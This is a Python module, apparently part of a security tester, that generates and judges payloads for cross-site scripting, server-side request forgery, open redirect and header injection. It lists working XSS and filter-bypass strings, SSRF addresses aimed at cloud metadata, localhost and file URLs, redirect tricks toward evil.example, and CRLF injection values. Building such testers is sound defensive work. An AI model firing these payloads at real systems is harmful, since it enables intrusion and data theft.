"""What leaves by the web: markup, requests to other hosts, redirects, headers."""

import html
import html.parser
import ipaddress
import re
import urllib.parse

import prove_world
from prove_families import Effect, Family, Payload

_HTML_NAMES = re.compile(r'(?i)html|render|page|markup|template|widget|badge|snippet|greet|banner|comment|profile')
_REDIRECT_NAMES = re.compile(r'(?i)redirect|next|return|target|login|location|url')


class _Markup(html.parser.HTMLParser):
    """Elements, attributes and scripts that a browser would see."""

    def __init__(self, number):
        html.parser.HTMLParser.__init__(self, convert_charrefs=True)
        self.number, self.found, self.script = number, None, False

    def handle_starttag(self, tag, attributes):
        self.script = tag == 'script'
        for name, value in attributes:
            text = (value or '').strip().lower()
            if name.startswith('on') and self.number in text:
                self.found = self.found or f'an attribute {name} with its code'
            if (
                name in ('href', 'src', 'action', 'formaction')
                and re.match(r'javascript:', text)
                and self.number in text
            ):
                self.found = self.found or f'a javascript: address in {name}'

    def handle_endtag(self, _tag):
        self.script = False

    def handle_data(self, data):
        if self.script and f'alert({self.number})' in outside_of_texts(data):
            self.found = self.found or 'a script with its code'


def outside_of_texts(script):
    """A script without what stands in quotes."""
    return re.sub(r'"(?:[^"\\\n]|\\.)*"|\'(?:[^\'\\\n]|\\.)*\'|`(?:[^`\\]|\\.)*`', '""', script)


class Xss(Family):
    padded = True
    probes = True
    preferred = frozenset({'text'})

    def payloads(self, _site):
        for text in (
            '<script>alert(1)</script>',
            '"><script>alert(1)</script>',
            "'><script>alert(1)</script>",
            '<img src=x onerror=alert(1)>',
            '" onmouseover="alert(1)',
            "' onmouseover='alert(1)",
            'x onmouseover=alert(1) ',
            'javascript:alert(1)',
            '</script><script>alert(1)</script>',
            "';alert(1);//",
            '";alert(1);//',
            '</title><script>alert(1)</script>',
            '</textarea><script>alert(1)</script>',
            '<ScRiPt>alert(1)</sCrIpT>',
            '<scr<script>ipt>alert(1)</scr</script>ipt>',
            '--><script>alert(1)</script>',
            '<svg/onload=alert(1)>',
            '${alert(1)}',
            'JaVaScRiPt:alert(1)',
            '\\";alert(1);//',
        ):
            yield Payload(self.hunt.disguise(text))

    def learn(self, control):
        said = control.text('body') or control.text('said')
        first, last = self.hunt.survey.get('own', {}).get('lines', [0, 0])
        own = '\n'.join(self.hunt.target['program'].split('\n')[max(first - 1, 0) : last])
        literal = re.search(r'''(?s)["'].*?<(?:/?[a-z][a-z0-9]*)[\s>/]''', own)
        self.is_markup = bool(re.search(r'</?[a-z][a-z0-9]*(?:\s[^<>]*)?>', said, re.I)) or bool(
            _HTML_NAMES.search(self.hunt.target['function']) and literal
        )

    def arrivals(self, seen, word):
        return {'page'} if word in self.body(seen) or seen.how == 'raised' else set()

    def body(self, seen):
        if seen.told.get('type') == 'response':
            kind = seen.text('kind')
            return seen.text('body') if re.search(r'html|xml|svg', kind, re.I) else ''
        if self.hunt.target['isHandler'] and seen.text('exact'):
            return seen.text('exact')
        if not self.is_markup:
            return ''
        is_text = seen.told.get('type') in ('str', 'bytes', 'Markup', 'list', 'tuple', 'generator', 'SafeString')
        return '\n'.join((seen.text('said') if is_text else '', seen.text('printed')))

    def judge(self, _site, _payload, seen):
        body = self.body(seen)
        if f'alert({self.hunt.number})' not in html.unescape(body):
            return None
        markup = _Markup(self.hunt.number)
        try:
            markup.feed(body[:60_000])
            markup.close()
        except (AssertionError, ValueError):
            return None
        return Effect('proven', f'the page that is returned holds {markup.found}') if markup.found else None

    def may_be(self, text):
        return f'alert({self.hunt.number})' in text


class Ssrf(Family):
    connects = True
    preferred = frozenset({'url', 'host'})
    nothing = 'no parameter carries an address from outside'

    def prepare(self):
        world = self.hunt.world
        self.canary = f'{world.root}/outside/secret.txt'
        world.canaries[self.canary] = prove_world.draw()
        world.file(self.canary, world.canaries[self.canary])
        self.inner = f'inner.{self.hunt.host}'

    def hosts(self):
        return {self.inner: '10.0.0.5', f'moved.{self.hunt.host}': '93.184.216.34'}

    def moves(self):
        return {f'moved.{self.hunt.host}': 'http://169.254.169.254/latest/'}

    def known_hosts(self):
        return self.hunt.survey.get('hosts', [])[:3] or ['public.example']

    def payloads(self, site):
        evil, host = 'evil.example', self.known_hosts()
        if site.role == 'host':
            yield from (
                Payload(self.hunt.disguise(one), shrinks=False)
                for one in ('evil.example', '169.254.169.254', '127.0.0.1', f'inner.{evil}')
            )
        for text in (
            f'http://{evil}/',
            f'https://{evil}/',
            'http://169.254.169.254/latest/meta-data/',
            'http://127.0.0.1/',
            'http://localhost/',
            f'http://inner.{evil}/',
            'http://[::1]/',
            'http://2130706433/',
            'http://0x7f000001/',
            'http://10.0.0.5/',
            'http://0.0.0.0/',
            f'http://moved.{evil}/',
            f'file://{self.canary}',
        ):
            yield Payload(self.hunt.disguise(text), shrinks=False)
        for one in host:
            for scheme in ('http', 'https'):
                for text in (
                    f'{scheme}://{one}.{evil}/',
                    f'{scheme}://{one}@{evil}/',
                    f'{scheme}://{evil}/{one}',
                    f'{scheme}://{evil}#{one}',
                    f'{scheme}://{evil}?{one}',
                    f'{scheme}://{evil}\\@{one}/',
                    f'{scheme}://x{one}.{evil}/',
                    f'{scheme}://{evil}{one}/',
                    f'{scheme}://{evil}/#.{one}',
                ):
                    yield Payload(self.hunt.disguise(text), shrinks=False)
        for text in (
            f'{evil}/',
            f'{evil}#',
            f'@{evil}/',
            f'x.{evil}/',
            f'.{evil}/',
            f'//{evil}/',
            f'/../@{evil}/',
            f'x@{evil}:80/',
            '127.0.0.1',
            '169.254.169.254',
        ):
            yield Payload(self.hunt.disguise(text), shrinks=False)

    def controls(self, site, payload):
        return (
            [None, Payload(f'http://{self.known_hosts()[0]}/notes'), Payload('harmless')]
            if site.role != 'host'
            else [None]
        )

    def learn(self, control):
        self.usual = {one['host'] for one in control.asked} | {one['address'] for one in control.asked}

    def judge(self, site, payload, seen):
        if self.hunt.world.canaries[self.canary] in seen.said:
            return Effect('proven', 'a file of the server was fetched by file:', file=self.canary)
        usual = getattr(self, 'usual', set()) | set(self.known_hosts() if payload is None else ())
        for one in seen.asked:
            if one['host'] in usual or one['host'] in self.known_hosts() or not one['request']:
                continue
            place = one['host'].strip('[]').lower()
            if is_of(place, self.hunt.host):
                return Effect(
                    'proven', f'the server asked {self.hunt.reveal(place)} ({one["request"].splitlines()[0][:80]!r})'
                )
            if is_inner(one['address']):
                return Effect('proven', f'the server asked {one["address"]}, which is not of the outside')
        return None


def is_inner(address):
    try:
        found = ipaddress.ip_address(address)
    except ValueError:
        return False
    return found.is_private or found.is_loopback or found.is_link_local or found.is_unspecified


class Redirect(Family):
    """Where a browser would go is judged by Node, with the URL parser of browsers; here it is only collected."""

    shrinks = False
    preferred = frozenset({'url', 'host', 'text'})

    def payloads(self, _site):
        evil, hosts = 'evil.example', self.hunt.survey.get('hosts', [])[:3] or ['shop.example']
        plain = (
            f'https://{evil}/',
            f'//{evil}/',
            f'http://{evil}/',
            f'/\\{evil}/',
            f'\\\\{evil}/',
            f'/\t/{evil}/',
            f'///{evil}/',
            f'https:{evil}/',
            f'https:/{evil}/',
            f'/\\/{evil}/',
            f'\t//{evil}/',
            f' //{evil}/',
            f'/%09/{evil}/',
            f'https:\\\\{evil}/',
            f'\x01//{evil}/',
            f'HTTPS://{evil}/',
            f'@{evil}/',
            f'.{evil}/',
            f'javascript:alert(1)//{evil}',
        )
        for text in plain:
            yield Payload(self.hunt.disguise(text))
        for one in hosts:
            for text in (
                f'https://{one}.{evil}/',
                f'https://{one}@{evil}/',
                f'https://{evil}/{one}',
                f'https://{evil}?{one}',
                f'https://{evil}#{one}',
                f'https://{evil}\\@{one}/',
                f'//{one}@{evil}/',
                f'https://{evil}\\.{one}/',
                f'https://{one}%2f@{evil}/',
                f'https://{evil}{one}/',
            ):
                yield Payload(self.hunt.disguise(text))

    def controls(self, _site, _payload):
        return [None, Payload('/notes'), Payload('harmless')]

    def location(self, seen):
        for name, value in seen.pairs('headers'):
            if str(name).lower() == 'location':
                return str(value)
        names = f"{self.hunt.target['function']} {' '.join(one['name'] for one in self.hunt.plan.parameters)}"
        exact = seen.told.get('exact')
        if isinstance(exact, str) and _REDIRECT_NAMES.search(names) and not self.hunt.target['isHandler']:
            return exact
        return None

    def judge(self, _site, payload, seen):
        """Proven as far as can be said here: Node looks at `location` and drops what a browser would not follow."""
        location = self.location(seen)
        if location is None or self.hunt.host not in location:
            return None
        if not leaves(location, self.hunt.host):
            return None
        return Effect(
            'proven',
            f'the browser is sent to {self.hunt.reveal(location)[:120]!r}',
            location=self.hunt.reveal(location)[:500],
        )


def leaves(location, host):
    """What browsers make of an address, roughly: tabs and line breaks are left out, a backslash is a slash."""
    text = re.sub(r'[\t\r\n]', '', location.strip(''.join(map(chr, range(33))))).replace('\\', '/')
    if re.match(r'(?i)javascript:', text):
        return True
    text = re.sub(r'(?i)^(https?):/*', r'\1://', text)
    text = re.sub(r'^/{2,}', '//', text)
    try:
        found = urllib.parse.urlsplit(text).hostname or ''
    except ValueError:
        return True
    return is_of(found, host)


def is_of(place, host):
    """Whether a name is the attacker's: the host, one below it, or one of its own that goes on after it, as
    `evil.exampleshop.example`, which ends like a name that the program trusts."""
    return place == host or place.endswith('.' + host) or re.match(rf'{re.escape(host)}[\w-]+\.', place) is not None


# The payload brings a header too: only those that a program writes itself make a block of them.
_HEADER = re.compile(
    r'(?im)^(?:HTTP/[\d.]+ \d|(?:content-[\w-]+|location|set-cookie|from|to|cc|bcc|subject|host|date|cache-[\w-]+'
    r'|user-agent|authorization|accept[\w-]*|referer|reply-to|sender|message-id|x-(?!pwned)[\w-]+):\s)'
)


class Header(Family):
    connects = True
    preferred = frozenset({'text', 'filename', 'url'})

    def payloads(self, _site):
        for text in (
            'x\r\nX-Pwned: 1',
            'x\nX-Pwned: 1',
            'x\rX-Pwned: 1',
            'x%0d%0aX-Pwned: 1',
            'x"\r\nX-Pwned: 1',
            'x@shop.example\nX-Pwned: 1',
            '\r\nX-Pwned: 1\r\n',
        ):
            yield Payload(text)

    def may_be(self, text):
        return 'X-Pwned: 1' in text

    def judge(self, _site, _payload, seen):
        head = seen.text('wire')
        if re.search(r'(?im)^X-Pwned: ?1\s*$', head.replace('\r', '\n')):
            return Effect('proven', 'the response has a header line of its own: X-Pwned: 1')
        for one in seen.asked:
            if re.search(r'(?im)^X-Pwned: ?1\s*$', one['request'].replace('\r', '\n')):
                return Effect('proven', 'the request to another server has a header line of its own: X-Pwned: 1')
        is_block = seen.told.get('type') == 'list' and _HEADER.search(self.hunt.control.text('said'))
        exact = seen.text('said') if is_block else seen.text('exact')
        if _HEADER.search(exact) and re.search(r'(?m)^X-Pwned: ?1\s*$', exact.replace('\r', '\n')):
            return Effect('proven', 'the header block that is returned has a line of its own: X-Pwned: 1')
        if any(re.search(r'[\r\n]X-Pwned', str(value)) for _, value in seen.pairs('headers')):
            return Effect('reached', 'a line break arrived in a header')
        return None
